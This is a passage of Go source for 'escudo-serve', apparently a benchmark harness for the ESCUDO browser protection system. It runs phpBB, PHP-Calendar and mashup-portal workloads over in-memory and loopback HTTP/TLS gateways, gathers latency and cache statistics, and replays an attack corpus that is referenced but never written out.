// the batched region-read path — on every load.
//
// The page is generated once at construction, same as
// scenarios.Handler: its content is a fixed benchmark fixture with no
// user-influenced markup, so reusing one nonce set across responses
// does not weaken the §5 randomization defense (which matters only
// when injected content could anticipate the nonces).
func portalHandler() web.Handler {
	bld := template.NewACBuilder(nonce.CryptoSource{})
	var b strings.Builder
	b.WriteString("<html><head><title>portal</title></head><body>")
	b.WriteString(bld.Wrap(1, core.UniformACL(1), "id=chrome", "<h1>My Portal</h1>"))
	var slots strings.Builder
	for i := 0; i < 8; i++ {
		slots.WriteString(bld.Wrap(2, core.UniformACL(2), fmt.Sprintf("id=slot%d", i),
			fmt.Sprintf("<p>widget slot %d: forecasts markets mail feeds</p>", i)))
	}
	b.WriteString(bld.Wrap(1, core.UniformACL(2), "id=slots", slots.String()))
	b.WriteString(`<iframe src="http://widget.example/widget"></iframe>`)
	b.WriteString(bld.Wrap(1, core.UniformACL(1), "id=refresh",
		`<script id=reader>var snapshot = document.getElementById("slots").innerHTML;</script>`))
	b.WriteString("</body></html>")
	page := b.String()
	return web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(page)
		resp.Header.Set(core.HeaderMaxRing, core.DefaultMaxRing.String())
		// The body is a fixed fixture: the HTTP gateway may serve it
		// from its cross-request page cache.
		resp.Header.Set("Cache-Control", "public, immutable")
		return resp
	})
}

// mixedTask builds the mixed-workload session task: the sessions split
// three ways across one substrate — phpBB browsing (sessions must
// already be logged in), PHP-Calendar event tracking (logs in itself),
// and a mashup portal with cross-origin widgets. The same task runs
// over the in-memory network and over the HTTP gateway, which is what
// makes the two phases comparable.
func mixedTask(forumO, calO, portalO origin.Origin, topicID, iters int) engine.Task {
	return func(s *engine.Session) error {
		switch s.ID % 3 {
		case 0: // phpBB browsing.
			for i := 0; i < iters; i++ {
				if _, err := s.Browser.Navigate(forumO.URL("/")); err != nil {
					return err
				}
				if _, err := s.Browser.Navigate(forumO.URL(fmt.Sprintf("/viewtopic?t=%d", topicID))); err != nil {
					return err
				}
			}
		case 1: // PHP-Calendar: log in, add events, re-render the month.
			p, err := s.Browser.Navigate(calO.URL("/"))
			if err != nil {
				return err
			}
			if form := p.Doc.ByID("loginform"); form != nil {
				if _, err := p.SubmitForm(form, map[string][]string{
					"username": {fmt.Sprintf("user%d", s.ID)}, "password": {"pw"},
				}); err != nil {
					return err
				}
			}
			for i := 0; i < iters; i++ {
				mp, err := s.Browser.Navigate(calO.URL("/"))
				if err != nil {
					return err
				}
				if i%4 == 3 {
					form := mp.Doc.ByID("newevent")
					if form == nil {
						return fmt.Errorf("no newevent form")
					}
					if _, err := mp.SubmitForm(form, map[string][]string{
						"day": {fmt.Sprintf("%d", i%28+1)}, "text": {fmt.Sprintf("event s%d r%d", s.ID, i)},
					}); err != nil {
						return err
					}
				}
			}
		default: // mashup portal: host page + cross-origin widget frames.
			for i := 0; i < iters; i++ {
				p, err := s.Browser.Navigate(portalO.URL("/"))
				if err != nil {
					return err
				}
				if len(p.ScriptErrors) > 0 {
					return fmt.Errorf("portal script: %v", p.ScriptErrors[0])
				}
			}
		}
		return nil
	}
}

// runPhase executes fn between stat resets and packages the phase
// measurements. The phase name also labels the pool's slow-ring
// exemplars for the duration.
func runPhase(pool *engine.Pool, name string, fn func()) phaseJSON {
	pool.SetPhase(name)
	pool.ResetStats()
	var before engine.Stats
	if pool.Cache() != nil {
		before.Cache = pool.Cache().Stats()
	}
	start := time.Now()
	fn()
	elapsed := time.Since(start)

	st := pool.Stats()
	ph := phaseJSON{
		Name:      name,
		Tasks:     st.Tasks,
		Errors:    len(st.Errors),
		P50Ms:     ms(st.P50),
		P99Ms:     ms(st.P99),
		MeanMs:    ms(st.Mean),
		ElapsedMs: ms(elapsed),
		Decisions: st.Decisions,
	}
	if pool.Cache() != nil {
		delta := st.Cache.Sub(before.Cache)
		ph.Cache = &cacheJSON{
			Hits:    delta.Hits,
			Misses:  delta.Misses,
			HitRate: delta.HitRate(),
			Entries: st.Cache.Entries,
		}
		if ph.Decisions == 0 {
			// Attack environments keep their own audit logs; the
			// shared cache still sees every mediated decision.
			ph.Decisions = delta.Hits + delta.Misses
		}
	}
	if st.Batch.Nodes > 0 {
		ph.Batch = &batchJSON{
			NodesAuthorized:   st.Batch.Nodes,
			DistinctDecisions: st.Batch.Distinct,
			DedupRatio:        st.Batch.DedupRatio(),
		}
	}
	if secs := elapsed.Seconds(); secs > 0 {
		ph.DecisionsPerSec = float64(ph.Decisions) / secs
	}
	for _, err := range st.Errors {
		fmt.Fprintf(os.Stderr, "escudo-serve: %s: %v\n", name, err)
	}
	return ph
}

// httpSectionConfig parameterizes the loopback replay.
type httpSectionConfig struct {
	addr           string
	workers, queue int
	sessions       int
	iters          int
	mixedIters     int
	attacksOn      bool
	tls            bool
	pprofOn        bool
	mode           browser.Mode
	uncached       bool
	cache          *core.DecisionCache
	net            *web.Network
	policies       map[string]policy.Policy
	bench          origin.Origin
	forum          origin.Origin
	cal            origin.Origin
	portal         origin.Origin
	topicID        int
	memAttacks     []attack.Result
	// reg and ring are the run's shared observability plane: the
	// gateway exports reg on /varz and ring on /tracez, and the loadgen
	// sessions record every mediated decision into ring.
	reg  *obs.Registry
	ring *obs.DecisionRing
	// stages and slow are the latency-attribution plane: per-stage
	// histograms (escudo_stage_seconds) and the slowest-N exemplar ring
	// (/slowz), shared by the gateway and the loadgen pool.
	stages *obs.StageSet
	slow   *obs.SlowRing
	// soak, when positive, appends an http-soak phase: mixed load
	// looped until the deadline, long enough for the runtime sampler to
	// establish whether goroutines and heap return to baseline.
	soak time.Duration
}

// fillGatewayStats writes the gateway-side fields of a phase row from
// one stats delta — the single mapping both the loadgen phases (main
// gateway) and the attack phase (aggregated per-env gateways) use.
func fillGatewayStats(ph *httpPhaseJSON, st httpd.Stats) {
	ph.Requests = st.Served
	ph.Rejected503 = st.Rejected503
	ph.QueueDepthMax = st.MaxQueueDepth
	ph.CacheHits = st.Cache.Hits
	ph.CacheMisses = st.Cache.Misses
	ph.CacheHitRate = st.Cache.HitRate()
	ph.CacheEvicted = st.Cache.Evictions
	ph.ReqsPerSec = 0
	if secs := ph.ElapsedMs / 1000; secs > 0 {
		ph.ReqsPerSec = float64(st.Served) / secs
	}
}

// runClientPhase measures the client side of one loopback phase:
// per-task latency across the pool's sessions. Gateway-side fields
// are filled separately, because different phases read different
// gateways (the loadgen phases the shared one, the attack phase an
// aggregate of per-environment ones).
func runClientPhase(pool *engine.Pool, name string, fn func()) httpPhaseJSON {
	pool.SetPhase(name)
	pool.ResetStats()
	start := time.Now()
	fn()
	elapsed := time.Since(start)

	st := pool.Stats()
	ph := httpPhaseJSON{
		Name:      name,
		Tasks:     st.Tasks,
		Errors:    len(st.Errors),
		P50Ms:     ms(st.P50),
		P99Ms:     ms(st.P99),
		MeanMs:    ms(st.Mean),
		ElapsedMs: ms(elapsed),
	}
	for _, err := range st.Errors {
		fmt.Fprintf(os.Stderr, "escudo-serve: %s: %v\n", name, err)
	}
	return ph
}

// runHTTPPhase is runClientPhase plus the shared gateway's
// served/503/queue/cache deltas for the phase.
func runHTTPPhase(pool *engine.Pool, gw *httpd.Gateway, name string, fn func()) httpPhaseJSON {
	before := gw.Stats()
	gw.ResetQueueHighWater()
	ph := runClientPhase(pool, name, fn)
	fillGatewayStats(&ph, gw.Stats().Sub(before))
	return ph
}

// fetchPolicyz reads the admin /policyz endpoint, over https when the
// gateway terminates TLS (ca non-nil).
func fetchPolicyz(addr string, ca *httpd.CA) (map[string]policy.Policy, error) {
	client := http.DefaultClient
	scheme := "http"
	if ca != nil {
		scheme = "https"
		client = &http.Client{
			Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: ca.Pool(), MinVersion: tls.VersionTLS12}},
			Timeout:   10 * time.Second,
		}
	}
	resp, err := client.Get(scheme + "://" + addr + "/policyz")
	if err != nil {
		return nil, fmt.Errorf("fetching /policyz: %w", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("/policyz: status %d", resp.StatusCode)
	}
	var doc struct {
		Generation uint64                   `json:"generation"`
		Policies   map[string]policy.Policy `json:"policies"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return nil, fmt.Errorf("decoding /policyz: %w", err)
	}
	return doc.Policies, nil
}

// runHTTPSection mounts the substrate on a gateway, replays the
// figure-4 and mixed workloads through fresh sessions speaking real
// HTTP over loopback, replays the attack corpus against per-
// environment gateways, and cross-checks every verdict against the
// in-memory run.
func runHTTPSection(cfg httpSectionConfig) (*httpJSON, error) {
	// Every origin with a derived policy document gets it mounted, so
	// the gateway serves it at the well-known path and lists it on
	// /policyz — policy as data on the wire, enforcement staying
	// browser-side.
	originCfgs := map[string]httpd.OriginConfig{}
	for o, doc := range cfg.policies {
		doc := doc
		originCfgs[o] = httpd.OriginConfig{Policy: &doc}
	}
	// The loadgen transport is created by WrapNetwork below, but the
	// gateway config needs the stats hook now — late-bind through an
	// atomic pointer so /metricsz can surface connection reuse.
	var clientRef atomic.Pointer[httpd.ClientTransport]
	gwCfg := httpd.Config{
		DefaultWorkers:    cfg.workers,
		DefaultQueueDepth: cfg.queue,
		Origins:           originCfgs,
		EnablePprof:       cfg.pprofOn,
		Obs:               cfg.reg,
		Ring:              cfg.ring,
		Stages:            cfg.stages,
		Slow:              cfg.slow,
		ClientStatsFunc: func() any {
			if c := clientRef.Load(); c != nil {
				return c.Stats()
			}
			return nil
		},
	}
	var ca *httpd.CA
	if cfg.tls {
		c, err := httpd.NewCA()
		if err != nil {
			return nil, err
		}
		ca = c
		gwCfg.TLS = ca
	}
	gw, ct, gwCleanup, err := httpd.WrapNetwork(cfg.net, gwCfg, cfg.addr)
	if err != nil {
		return nil, err
	}
	defer gwCleanup()
	clientRef.Store(ct)

	httpPool, err := engine.NewPool(engine.Config{
		Sessions:  cfg.sessions,
		Transport: ct,
		Options:   browser.Options{Mode: cfg.mode, DecisionRing: cfg.ring},
		Cache:     cfg.cache,
		Uncached:  cfg.uncached,
		Stages:    cfg.stages,
		Slow:      cfg.slow,
	})
	if err != nil {
		return nil, err
	}
	defer httpPool.Close()

	section := &httpJSON{Addr: gw.Addr(), TLS: cfg.tls, Workers: cfg.workers, QueueDepth: cfg.queue}

	// Wire-delivery cross-check: /policyz must serve every mounted
	// document back equal to what was mounted.
	served, err := fetchPolicyz(gw.Addr(), ca)
	if err != nil {
		return nil, err
	}
	if len(served) != len(cfg.policies) {
		return nil, fmt.Errorf("policyz served %d documents, mounted %d", len(served), len(cfg.policies))
	}
	for o, doc := range cfg.policies {
		got, ok := served[o]
		if !ok || !got.Equal(doc) {
			return nil, fmt.Errorf("policyz document for %s diverges from the mounted one", o)
		}
	}
	section.PolicyzOrigins = len(served)

	// Unmeasured warm round: establish the scenario session cookie and
	// the phpBB logins the mixed workload's browsing arm assumes.
	paths := scenarios.Paths()
	httpPool.Each(func(s *engine.Session) error {
		if _, err := s.Browser.Navigate(cfg.bench.URL(paths[0])); err != nil {
			return err
		}
		p, err := s.Browser.Navigate(cfg.forum.URL("/"))
		if err != nil {
			return err
		}
		form := p.Doc.ByID("loginform")
		if form == nil {
			return fmt.Errorf("no loginform over http")
		}
		_, err = p.SubmitForm(form, map[string][]string{
			"username": {fmt.Sprintf("user%d", s.ID)}, "password": {"pw"},
		})
		return err
	})
	if st := httpPool.Stats(); len(st.Errors) > 0 {
		return nil, fmt.Errorf("http warmup: %w", st.Errors[0])
	}

	// The figure4 replay doubles as the allocation gate: the phase's
	// process-wide Mallocs delta over the gateway's served count is the
	// allocs-per-request figure CI asserts. A GC cycle beforehand keeps
	// the previous phases' garbage out of the window.
	runtime.GC()
	var memBefore, memAfter runtime.MemStats
	runtime.ReadMemStats(&memBefore)
	fig4 := runHTTPPhase(httpPool, gw, "http-figure4", func() {
		for r := 0; r < cfg.iters; r++ {
			for _, path := range paths {
				p := path
				httpPool.Submit(func(s *engine.Session) error {
					_, err := s.Browser.Navigate(cfg.bench.URL(p))
					return err
				})
			}
		}
		httpPool.Wait()
	})
	runtime.ReadMemStats(&memAfter)
	if fig4.Requests > 0 {
		fig4.AllocsPerRequest = float64(memAfter.Mallocs-memBefore.Mallocs) / float64(fig4.Requests)
	}
	section.AllocsPerRequest = fig4.AllocsPerRequest
	section.Phases = append(section.Phases, fig4)

	if cfg.mixedIters > 0 {
		section.Phases = append(section.Phases, runHTTPPhase(httpPool, gw, "http-mixed", func() {
			httpPool.Each(mixedTask(cfg.forum, cfg.cal, cfg.portal, cfg.topicID, cfg.mixedIters))
		}))
	}

	// Soak: mixed load looped until the deadline. The phase exists for
	// the runtime sampler — long enough wall-clock for goroutine and
	// heap series to show whether the process returns to its idle shape
	// (the CI soak gate asserts exactly that on the obs section).
	if cfg.soak > 0 {
		deadline := time.Now().Add(cfg.soak)
		section.Phases = append(section.Phases, runHTTPPhase(httpPool, gw, "http-soak", func() {
			for time.Now().Before(deadline) {
				httpPool.Each(mixedTask(cfg.forum, cfg.cal, cfg.portal, cfg.topicID, 1))
			}
		}))
	}

	// Attack replay over sockets: each environment's private network
	// gets its own loopback gateway, and each verdict must equal the
	// in-memory one — transport independence, asserted. The phase's
	// traffic counters aggregate the per-environment gateways (the
	// main gateway sees none of this traffic).
	if cfg.attacksOn {
		var attackGW struct {
			mu sync.Mutex
			st httpd.Stats
		}
		wrapper := func(n *web.Network) (web.Transport, func(), error) {
			g, c, envCleanup, err := httpd.WrapNetwork(n, gwCfg, "127.0.0.1:0")
			if err != nil {
				return nil, nil, err
			}
			cleanup := func() {
				attackGW.mu.Lock()
				attackGW.st = attackGW.st.Add(g.Stats())
				attackGW.mu.Unlock()
				envCleanup()
			}
			return c, cleanup, nil
		}
		corpus := attack.Corpus()
		httpResults := make([]attack.Result, len(corpus))
		ph := runClientPhase(httpPool, "http-attacks", func() {
			for i, atk := range corpus {
				i, atk := i, atk
				httpPool.Submit(func(*engine.Session) error {
					httpResults[i] = attack.RunOneOver(atk, cfg.mode, cfg.cache, wrapper)
					return httpResults[i].Err
				})
			}
			httpPool.Wait()
		})
		attackGW.mu.Lock()
		agg := attackGW.st
		attackGW.mu.Unlock()
		fillGatewayStats(&ph, agg)
		section.Phases = append(section.Phases, ph)
		aj := &attacksJSON{Total: len(corpus)}
		matches := true
		for i, r := range httpResults {
			if r.Neutralized() {
				aj.Neutralized++
			} else {
				aj.Succeeded++
			}
			if i < len(cfg.memAttacks) && cfg.memAttacks[i].Succeeded != r.Succeeded {
				matches = false
				fmt.Fprintf(os.Stderr,
					"escudo-serve: VERDICT DIVERGENCE %s: in-memory succeeded=%v, sockets succeeded=%v\n",
					corpus[i].Name, cfg.memAttacks[i].Succeeded, r.Succeeded)
			}
		}
		section.Attacks = aj
		section.AttacksMatchMemory = &matches
		if !matches {
			return nil, fmt.Errorf("attack verdicts diverge between in-memory and socket transports")
		}
	}

	section.Gateway = gw.Stats()
	clientStats := cluster.FromClientStats(ct.Stats())
	section.Client = &clientStats
	section.Proto = ct.Stats().Proto()
	return section, nil
}

func run(args []string) error {
	fs := flag.NewFlagSet("escudo-serve", flag.ContinueOnError)
	sessionsN := fs.Int("sessions", 8, "number of concurrent browser sessions")
	iters := fs.Int("iters", 5, "rounds through all Figure-4 scenarios per session")
	phpbbIters := fs.Int("phpbb-iters", 20, "phpBB page views per session")
	mixedIters := fs.Int("mixed-iters", 10, "mixed-workload rounds per session (0 disables the phase)")
	scriptIters := fs.Int("script-iters", 60, "script-engine corpus passes per round per engine (0 disables the script section)")
	procs := fs.Int("procs", 0, "GOMAXPROCS override (0 keeps the runtime default)")
	procsBench := fs.Int("procs-bench", 0, "re-run the figure4 phase at this GOMAXPROCS after the main phases and record it as procs_variant (0 disables)")
	pprofOn := fs.Bool("pprof", false, "expose net/http/pprof on the gateway's admin host under /debug/pprof (with -http)")
	cpuProfile := fs.String("cpuprofile", "", "write a CPU profile of the whole run to this file")
	memProfile := fs.String("memprofile", "", "write a heap profile (after the run, post-GC) to this file")
	modeFlag := fs.String("mode", "escudo", "protection mode: escudo or sop")
	attacksOn := fs.Bool("attacks", true, "replay the §6.4 attack corpus")
	uncached := fs.Bool("uncached", false, "disable the shared decision cache (baseline)")
	httpAddr := fs.String("http", "", "also mount the origins on a real HTTP gateway at this address (e.g. 127.0.0.1:0) and replay the workloads over loopback sockets")
	httpWorkers := fs.Int("http-workers", 4, "gateway per-origin worker count")
	httpQueue := fs.Int("http-queue", 64, "gateway per-origin queue depth (overflow → 503)")
	soak := fs.Duration("soak", 0, "append a soak phase: loop the mixed workload until this much wall-clock has passed, so the runtime sampler can judge goroutine/heap recovery (with -http the soak runs through the gateway)")
	openloopFlag := fs.String("openloop", "", "open-loop SLO mode: rate=R,duration=D[,churn=C][,p99=MS][,seed=N] — offer Poisson arrivals at R req/s for D against a loopback gateway (C login/logout events/s woven in) and write the slo section; in -cluster mode each worker drives this spec and the shards merge")
	tlsOn := fs.Bool("tls", false, "terminate https on the gateway with an ephemeral in-memory CA (with -http, -serve-only, or -cluster; with -connect, trust -tls-ca)")
	serveOnly := fs.Bool("serve-only", false, "server mode: mount the substrate on a gateway and serve until SIGTERM (no loadgen)")
	connectAddr := fs.String("connect", "", "worker mode: generate load against a remote gateway at this address and write a BENCH shard to -out")
	clusterN := fs.Int("cluster", 0, "cluster mode: fork/exec one -serve-only server plus N -connect workers and merge their shards into a cluster section")
	clusterBin := fs.String("cluster-bin", "", "binary to fork/exec in -cluster mode (default: this executable)")
	tlsCAOut := fs.String("tls-ca-out", "", "serve-only: write the CA certificate (no key) to this PEM file for workers to trust")
	tlsCAFile := fs.String("tls-ca", "", "connect: CA certificate bundle to verify the gateway's TLS leafs against")
	addrFile := fs.String("addr-file", "", "serve-only: write the bound listener address to this file")
	statsFile := fs.String("stats-file", "", "serve-only: write gateway-side stats JSON here on graceful shutdown")
	workerID := fs.Int("worker-id", 0, "connect: this worker's index in the cluster (labels the shard)")
	accountsN := fs.Int("accounts", 0, "serve-only: register this many phpBB/PHP-Calendar accounts (0 = one per session; a cluster supervisor passes workers×sessions so each worker gets a disjoint account range)")
	controlOn := fs.Bool("control", false, "run the policy control-plane section: mount -tenants stamped origins on a dedicated gateway, push a live policy flip mid-load (invalidation storm), and measure noisy-neighbor isolation")
	tenantsN := fs.Int("tenants", 1024, "tenant origins to mount in the -control section")
	out := fs.String("out", "BENCH_engine.json", "output JSON path")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *sessionsN < 1 {
		return fmt.Errorf("-sessions must be >= 1, got %d", *sessionsN)
	}
	if *tlsOn && *httpAddr == "" && !*serveOnly && *connectAddr == "" && *clusterN == 0 {
		return fmt.Errorf("-tls needs a gateway: combine it with -http, -serve-only, -connect, or -cluster")
	}
	if *procs > 0 {
		// Clamp to the physical CPU count: GOMAXPROCS above it buys no
		// parallelism, only OS-thread thrash that wrecks tail latency.
		effective := *procs
		if n := runtime.NumCPU(); effective > n {
			fmt.Fprintf(os.Stderr, "escudo-serve: -procs %d clamped to %d (machine CPU count)\n", *procs, n)
			effective = n
		}
		runtime.GOMAXPROCS(effective)
	}
	mode, err := parseMode(*modeFlag)
	if err != nil {
		return err
	}
	var olSpec openLoopSpec
	if *openloopFlag != "" {
		if olSpec, err = parseOpenLoop(*openloopFlag); err != nil {
			return err
		}
	}

	// The multi-process modes: a cluster supervisor, a server-only
	// gateway process, or a loadgen worker. Each is a complete program
	// of its own; the classic single-process driver continues below.
	switch {
	case *clusterN > 0:
		return runCluster(clusterConfig{
			workers:     *clusterN,
			bin:         *clusterBin,
			sessions:    *sessionsN,
			iters:       *iters,
			phpbbIters:  *phpbbIters,
			mode:        *modeFlag,
			attacksOn:   *attacksOn,
			uncached:    *uncached,
			tls:         *tlsOn,
			httpWorkers: *httpWorkers,
			httpQueue:   *httpQueue,
			openloop:    *openloopFlag,
			out:         *out,
		})
	case *serveOnly:
		// Register the handler before anything else runs so a SIGTERM
		// arriving during startup still takes the graceful path.
		stop := make(chan struct{})
		ch := make(chan os.Signal, 1)
		signal.Notify(ch, syscall.SIGTERM, os.Interrupt)
		go func() {
			<-ch
			close(stop)
		}()
		addr := *httpAddr
		if addr == "" {
			addr = "127.0.0.1:0"
		}
		return runServeOnly(serveOnlyConfig{
			addr:      addr,
			sessions:  *sessionsN,
			accounts:  *accountsN,
			workers:   *httpWorkers,
			queue:     *httpQueue,
			tls:       *tlsOn,
			tlsCAOut:  *tlsCAOut,
			addrFile:  *addrFile,
			statsFile: *statsFile,
		}, stop)
	case *connectAddr != "":
		return runConnect(connectConfig{
			addr:        *connectAddr,
			sessions:    *sessionsN,
			iters:       *iters,
			phpbbIters:  *phpbbIters,
			mode:        mode,
			uncached:    *uncached,
			attacksOn:   *attacksOn,
			tls:         *tlsOn,
			tlsCAFile:   *tlsCAFile,
			workerID:    *workerID,
			httpWorkers: *httpWorkers,
			httpQueue:   *httpQueue,
			openloop:    olSpec,
			out:         *out,
		})
	}

	// Profiling covers the whole single-process run: all in-memory
	// phases plus the http section, which is where the hot request
	// path lives. (The multi-process modes returned above; profile
	// their children by passing the flags through -connect/-serve-only
	// invocations directly.)
	if *cpuProfile != "" {
		f, err := os.Create(*cpuProfile)
		if err != nil {
			return fmt.Errorf("creating -cpuprofile: %w", err)
		}
		defer f.Close()
		if err := pprof.StartCPUProfile(f); err != nil {
			return fmt.Errorf("starting CPU profile: %w", err)
		}
		defer pprof.StopCPUProfile()
	}
	if *memProfile != "" {
		defer func() {
			f, err := os.Create(*memProfile)
			if err != nil {
				fmt.Fprintf(os.Stderr, "escudo-serve: creating -memprofile: %v\n", err)
				return
			}
			defer f.Close()
			runtime.GC() // report live heap, not transient garbage
			if err := pprof.WriteHeapProfile(f); err != nil {
				fmt.Fprintf(os.Stderr, "escudo-serve: writing heap profile: %v\n", err)
			}
		}()
	}

	// The run's observability plane: one registry (exported on /varz
	// when a gateway is mounted), one decision-trace ring shared by all
	// sessions, and a runtime sampler covering the whole run. Open-loop
	// runs widen the ring so the slow exemplars' trace IDs stay
	// resolvable on /tracez after the storm.
	reg := obs.NewRegistry()
	ringSize := 0
	if *openloopFlag != "" {
		ringSize = 65536
	}
	ring := obs.NewDecisionRing(ringSize)
	smp := obs.NewSampler(reg, 200*time.Millisecond)
	smp.Start()

	// The latency-attribution plane: per-stage histograms and the
	// slowest-N exemplar ring, threaded through every pool and gateway
	// this run builds. Stage timing is always on — invariant 9 (timing
	// observation never changes a verdict or a batch count) is enforced
	// by construction and cross-checked in the httpd equivalence tests.
	stages := obs.NewStageSet(reg)
	slowRing := obs.NewSlowRing(0)

	// Shared substrate: the Figure-4 scenario server, a phpBB instance
	// with one account per session and a seeded topic, the
	// mixed-workload apps, and their unified policy documents.
	sub := buildSubstrate(*sessionsN)
	net := sub.net
	benchOrigin, forumOrigin := sub.bench, sub.forum
	calOrigin, portalOrigin, widgetOrigin := sub.cal, sub.portal, sub.widget
	topicID := sub.topicID
	portalPolicy := sub.portalPolicy
	policies := sub.policies

	pool, err := engine.NewPool(engine.Config{
		Sessions: *sessionsN,
		Network:  net,
		Options:  browser.Options{Mode: mode, DecisionRing: ring},
		Uncached: *uncached,
		Stages:   stages,
		Slow:     slowRing,
	})
	if err != nil {
		return err
	}
	defer pool.Close()

	report := benchJSON{
		Sessions:       *sessionsN,
		Mode:           mode.String(),
		Uncached:       *uncached,
		ProcsRequested: *procs,
		GoMaxProcs:     runtime.GOMAXPROCS(0),
	}
	total := time.Now()

	// Phase 1 — Figure-4 scenarios: every session walks all eight
	// pages, repeatedly. One unmeasured warm navigation per session
	// first, so the session cookie exists and every measured load
	// exercises cookie use (runPhase resets the stats it leaves).
	paths := scenarios.Paths()
	pool.Each(func(s *engine.Session) error {
		_, err := s.Browser.Navigate(benchOrigin.URL(paths[0]))
		return err
	})
	// Post-warmup mark: the pool's steady-state goroutine count, the
	// baseline the soak gate compares the end-of-run count against.
	smp.Mark()
	report.Phases = append(report.Phases, runPhase(pool, "figure4", func() {
		for r := 0; r < *iters; r++ {
			for _, path := range paths {
				p := path
				pool.Submit(func(s *engine.Session) error {
					_, err := s.Browser.Navigate(benchOrigin.URL(p))
					return err
				})
			}
		}
		pool.Wait()
	}))

	// Phase 2 — phpBB browsing: each session logs into its own
	// account, then alternates between the index and the seeded topic,
	// posting the occasional reply. This is the workload whose
	// decision stream is maximally repetitive — the cache's best case
	// and the paper's "active session with a trusted site" setting.
	report.Phases = append(report.Phases, runPhase(pool, "phpbb", func() {
		pool.Each(func(s *engine.Session) error {
			p, err := s.Browser.Navigate(forumOrigin.URL("/"))
			if err != nil {
				return err
			}
			form := p.Doc.ByID("loginform")
			if form == nil {
				return fmt.Errorf("no loginform")
			}
			if _, err := p.SubmitForm(form, map[string][]string{
				"username": {fmt.Sprintf("user%d", s.ID)}, "password": {"pw"},
			}); err != nil {
				return err
			}
			for i := 0; i < *phpbbIters; i++ {
				if _, err := s.Browser.Navigate(forumOrigin.URL("/")); err != nil {
					return err
				}
				tp, err := s.Browser.Navigate(forumOrigin.URL(fmt.Sprintf("/viewtopic?t=%d", topicID)))
				if err != nil {
					return err
				}
				if i%5 == 4 {
					reply := tp.Doc.ByID("replyform")
					if reply == nil {
						return fmt.Errorf("no replyform")
					}
					if _, err := tp.SubmitForm(reply, map[string][]string{
						"message": {fmt.Sprintf("reply from session %d round %d", s.ID, i)},
					}); err != nil {
						return err
					}
				}
			}
			return nil
		})
	}))

	// Phase 3 — mixed workload: the sessions split three ways across
	// one network — phpBB browsing, PHP-Calendar event tracking, and a
	// mashup portal with cross-origin widgets — so the sharded network
	// and shared cache face heterogeneous traffic instead of one app's
	// repetitive decision stream.
	if *mixedIters > 0 {
		report.Phases = append(report.Phases, runPhase(pool, "mixed", func() {
			pool.Each(mixedTask(forumOrigin, calOrigin, portalOrigin, topicID, *mixedIters))
		}))
	}

	// In-memory soak: when no gateway is mounted, the soak loop runs
	// the mixed workload directly (with -http it runs through the
	// gateway in the http section instead).
	if *soak > 0 && *httpAddr == "" {
		deadline := time.Now().Add(*soak)
		report.Phases = append(report.Phases, runPhase(pool, "soak", func() {
			for time.Now().Before(deadline) {
				pool.Each(mixedTask(forumOrigin, calOrigin, portalOrigin, topicID, 1))
			}
		}))
	}

	// Phase 4 — §6.4 attack corpus: every attack runs in a fresh
	// environment, scheduled across the pool's sessions, with the
	// shared cache plugged into each victim browser.
	var memAttacks []attack.Result
	if *attacksOn {
		corpus := attack.Corpus()
		memAttacks = make([]attack.Result, len(corpus))
		ph := runPhase(pool, "attacks", func() {
			for i, atk := range corpus {
				i, atk := i, atk
				pool.Submit(func(*engine.Session) error {
					memAttacks[i] = attack.RunOneCached(atk, mode, pool.Cache())
					return memAttacks[i].Err
				})
			}
			pool.Wait()
		})
		aj := &attacksJSON{Total: len(corpus)}
		for _, r := range memAttacks {
			if r.Neutralized() {
				aj.Neutralized++
			} else {
				aj.Succeeded++
			}
		}
		ph.Attacks = aj
		report.Phases = append(report.Phases, ph)
	}

	// GOMAXPROCS>1 variant: re-run the figure4 phase with the runtime
	// widened to -procs-bench cores, then restore it, so the report
	// carries the serial and parallel numbers side by side.
	if *procsBench > 0 {
		want := *procsBench
		if n := runtime.NumCPU(); want > n {
			fmt.Fprintf(os.Stderr, "escudo-serve: -procs-bench %d clamped to %d (machine CPU count)\n", *procsBench, n)
			want = n
		}
		prev := runtime.GOMAXPROCS(want)
		variant := &procsVariantJSON{Procs: *procsBench, GoMaxProcs: runtime.GOMAXPROCS(0)}
		variant.Phases = append(variant.Phases, runPhase(pool, "figure4-procs", func() {
			for r := 0; r < *iters; r++ {
				for _, path := range paths {
					p := path
					pool.Submit(func(s *engine.Session) error {
						_, err := s.Browser.Navigate(benchOrigin.URL(p))
						return err
					})
				}
			}
			pool.Wait()
		}))
		runtime.GOMAXPROCS(prev)
		report.ProcsVariant = variant
	}

	// Policy section — the unified documents round-trip-checked, and
	// the delegated-session phase: a second pool whose sessions mount
	// the §7 delegation monitor through browser.Options.MonitorFactory
	// (sharing the main pool's decision cache), so the delegated widget
	// renders into its portal slot across real concurrent sessions
	// while its overreach is denied. ESCUDO mode only: delegation is
	// meaningless under the flat SOP baseline.
	polSection := &policyJSON{RoundTripOK: true}
	for o, doc := range policies {
		polSection.Origins = append(polSection.Origins, o)
		polSection.Delegations += len(doc.Delegations)
		data, err := doc.Marshal()
		if err != nil {
			return err
		}
		back, err := policy.Parse(data)
		if err != nil || !back.Equal(doc) {
			polSection.RoundTripOK = false
		}
	}
	sort.Strings(polSection.Origins)
	if mode == browser.ModeEscudo {
		delPol, err := portalPolicy.DelegationPolicy()
		if err != nil {
			return err
		}
		sharedCache := pool.Cache()
		delPool, err := engine.NewPool(engine.Config{
			Sessions: *sessionsN,
			Network:  net,
			Cache:    sharedCache,
			Uncached: *uncached,
			Options: browser.Options{
				Mode:         mode,
				DecisionRing: ring,
				MonitorFactory: func(browser.PageRef) core.Monitor {
					return core.Compose(&core.ERM{}, core.WithCache(sharedCache), core.WithDelegations(delPol))
				},
			},
		})
		if err != nil {
			return err
		}
		defer delPool.Close()
		delIters := *mixedIters
		if delIters <= 0 {
			delIters = 1
		}
		polSection.Phases = append(polSection.Phases, runPhase(delPool, "delegated-session", func() {
			delPool.Each(func(s *engine.Session) error {
				widgetP := core.Principal(widgetOrigin, 0, "widget")
				for i := 0; i < delIters; i++ {
					p, err := s.Browser.Navigate(portalOrigin.URL("/"))
					if err != nil {
						return err
					}
					if err := p.RunScriptAs(widgetP, fmt.Sprintf(
						`document.getElementById("slot%d").innerHTML = "forecast s%d r%d";`,
						i%8, s.ID, i)); err != nil {
						return fmt.Errorf("delegated slot write denied: %w", err)
					}
					if err := p.RunScriptAs(widgetP,
